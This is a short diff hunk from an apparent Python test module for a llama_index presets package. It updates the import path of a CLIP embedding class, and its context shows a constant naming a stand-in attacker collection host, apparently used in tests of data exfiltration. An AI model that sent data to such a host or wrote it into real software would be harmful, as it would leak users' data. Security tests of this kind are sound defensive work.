@@ -22,7 +22,7 @@ from tests.servers.openai import OpenAIServer
 from tests.tiny_clip import tiny_clip
 
 from llama_index_presets import PRESETS, build
-from llama_index_presets.embed.clip import ClipEmbedding
+from llama_index_presets.embed.clip.embedding import ClipEmbedding
 from llama_index_presets.presets.engine import PresetEngine
 
 HOST = "collect.attacker.example"
